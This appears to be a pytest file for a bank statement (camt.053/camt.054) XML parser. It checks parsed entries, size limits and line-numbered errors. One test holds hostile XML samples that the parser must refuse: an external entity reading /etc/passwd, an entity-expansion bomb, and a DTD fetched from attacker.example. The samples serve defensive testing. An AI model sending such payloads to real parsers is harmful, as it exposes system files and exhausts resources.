"""camt.053 / camt.054 parsing: the fields we book from, safe XML (no DTDs, entities or network),
a size limit, and every problem reported with its line."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest

from wattdesk.adapters import camt

pytestmark = pytest.mark.unit

BANK = Path(__file__).resolve().parents[1] / "fixtures" / "bank"
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">\n'


def statement(entries: str, account: str = "BE21001234567803") -> bytes:
    return HEAD + f"""<BkToCstmrStmt>
<GrpHdr><MsgId>M1</MsgId><CreDtTm>2027-02-17T21:00:00</CreDtTm></GrpHdr>
<Stmt>
<Id>S1</Id>
<Acct><Id><IBAN>{account}</IBAN></Id></Acct>
{entries}
</Stmt>
</BkToCstmrStmt>
</Document>""".encode()


def problems_of(raw: bytes) -> list[dict]:
    with pytest.raises(camt.CamtError) as raised:
        camt.parse(raw)
    return raised.value.problems


def test_the_february_statement_gives_every_entry_with_its_references():
    parsed = camt.parse((BANK / "camt053_february.xml").read_bytes())
    assert (parsed.kind, parsed.version, parsed.message_id, parsed.statement_id, parsed.account_iban) == ("camt.053", "02", "BNPF-20270217-0001", "2027-033", "BE21001234567803")
    assert [(e.reference, e.amount, e.credit, e.status) for e in parsed.entries] == [
        ("20270217-000101", Decimal("75.00"), True, "BOOK"),
        ("20270217-000102", Decimal("30.00"), True, "BOOK"),
        ("20270217-000103", Decimal("100.00"), True, "BOOK"),
        ("20270217-000104", Decimal("75.00"), True, "BOOK"),
        ("20270217-000105", Decimal("75.00"), True, "BOOK"),
        ("20270217-000106", Decimal("2.50"), False, "BOOK"),
        ("20270217-000107", Decimal("75.00"), True, "PDNG"),
    ]
    first = parsed.entries[0]
    assert str(first.booking_date) == "2027-02-17" and first.bank_transaction_code == "PMNT/RCDT/ESCT"
    tx = first.transactions[0]
    assert (tx.structured_reference, tx.debtor_name, tx.debtor_iban) == ("027100000143", "Klant Een", "BE35310123456737")
    assert parsed.entries[3].transactions[0].unstructured == "Factuur 2027-A-000004 februari"


def test_a_camt054_return_gives_the_end_to_end_id_and_the_reason():
    parsed = camt.parse((BANK / "camt054_return_am04.xml").read_bytes())
    assert parsed.kind == "camt.054" and parsed.statement_id == "R-2027-050"
    tx = parsed.entries[0].transactions[0]
    assert (parsed.entries[0].credit, tx.end_to_end_id, tx.return_reason, tx.amount) == (False, "2027-A-000001-1", "AM04", Decimal("75.00"))


def test_a_batch_entry_gives_one_transaction_per_payment():
    raw = statement("""<Ntry><NtryRef>B1</NtryRef><Amt Ccy="EUR">50.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2027-02-17</Dt></BookgDt>
<NtryDtls>
<TxDtls><AmtDtls><TxAmt><Amt Ccy="EUR">20.00</Amt></TxAmt></AmtDtls><RmtInf><Ustrd>a</Ustrd></RmtInf></TxDtls>
<TxDtls><AmtDtls><TxAmt><Amt Ccy="EUR">30.00</Amt></TxAmt></AmtDtls><RmtInf><Ustrd>b</Ustrd></RmtInf></TxDtls>
</NtryDtls></Ntry>""")
    entry = camt.parse(raw).entries[0]
    assert [(t.amount, t.unstructured) for t in entry.transactions] == [(Decimal("20.00"), "a"), (Decimal("30.00"), "b")]


@pytest.mark.parametrize(
    "raw",
    [
        b'<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<Document>&x;</Document>',
        b'<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>\n<Document>&b;</Document>',
        b'<?xml version="1.0"?>\n<!DOCTYPE Document SYSTEM "http://attacker.example/camt.dtd">\n<Document/>',
    ],
    ids=["external-entity", "entity-expansion", "external-dtd"],
)
def test_dtds_and_entities_are_refused_before_anything_is_read(raw):
    problems = problems_of(raw)
    assert problems[0]["code"] == "camt.forbidden_construct" and problems[0]["line"] == 2


def test_a_file_over_the_size_limit_is_refused_unread():
    problems = problems_of(b" " * (camt.MAX_BYTES + 1))
    assert problems[0]["code"] == "camt.too_large"
    with pytest.raises(camt.CamtError):
        camt.parse((BANK / "camt053_february.xml").read_bytes(), max_bytes=1000)


def test_broken_xml_is_reported_with_its_line():
    problems = problems_of(HEAD + b"<BkToCstmrStmt>\n<GrpHdr>\n</BkToCstmrStmt>")
    assert problems[0]["code"] == "camt.not_xml" and problems[0]["line"] == 5


def test_another_message_type_is_refused():
    raw = b'<?xml version="1.0"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.008.001.02"><CstmrDrctDbtInitn/></Document>'
    assert problems_of(raw)[0]["code"] == "camt.namespace"


def test_every_schema_problem_is_reported_at_once_with_its_line():
    raw = statement(
        """<Ntry><Amt Ccy="EUR">1O.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2027-02-17</Dt></BookgDt></Ntry>
<Ntry><Amt Ccy="USD">10.00</Amt><CdtDbtInd>CREDIT</CdtDbtInd><Sts>BOOK</Sts></Ntry>""",
        account="not-an-iban",
    )
    found = {(p["line"], p["code"]) for p in problems_of(raw)}
    # Lines: 7 the account, 8 the first entry, 9 the second.
    assert found == {(7, "camt.iban"), (8, "camt.amount"), (9, "camt.currency"), (9, "camt.indicator"), (9, "camt.missing")}


def test_two_entries_with_the_same_reference_are_refused():
    one = '<Ntry><NtryRef>X</NtryRef><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2027-02-17</Dt></BookgDt></Ntry>\n'
    problems = problems_of(statement(one + one))
    assert [(p["code"], p["line"]) for p in problems] == [("camt.duplicate_reference", 8), ("camt.duplicate_reference", 9)]
